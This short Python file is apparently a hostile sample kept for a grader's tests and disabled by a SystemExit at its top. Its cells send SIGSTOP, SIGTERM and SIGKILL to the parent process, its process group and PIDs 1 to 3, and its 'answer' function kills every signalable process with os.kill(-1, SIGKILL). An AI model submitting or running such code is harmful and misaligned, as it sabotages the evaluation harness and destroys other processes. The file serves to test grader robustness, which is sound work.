"""Sends SIGKILL and SIGSTOP to its parent, to process 1 of the sandbox, to everything that it may signal."""

raise SystemExit("an attack on the grader, kept for its tests: not to be run")

# %% first
import os
import signal
from contextlib import suppress

for sent in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for process in (os.getppid(), os.getsid(0), 1, 2, 3):
        if process not in (os.getpid(), 0):
            with suppress(OSError):
                os.kill(process, sent)
    with suppress(OSError):
        os.killpg(os.getpgid(os.getppid()), sent)

# %% answer
def NAME(*args, **kwargs):
    with suppress(OSError):
        os.kill(-1, signal.SIGKILL)
